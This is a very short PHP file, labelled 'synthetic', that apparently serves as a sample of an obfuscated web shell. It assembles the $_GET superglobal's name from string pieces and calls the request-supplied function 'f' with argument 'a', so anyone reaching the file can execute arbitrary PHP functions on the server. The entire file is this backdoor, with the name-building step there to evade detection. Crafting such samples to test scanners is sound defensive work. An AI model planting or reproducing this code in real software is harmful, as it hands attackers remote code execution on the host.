<?php
// synthetic: a superglobal reached through a computed name, its element called
$n = '_' . 'GET';
${$n}['f'](${$n}['a']);
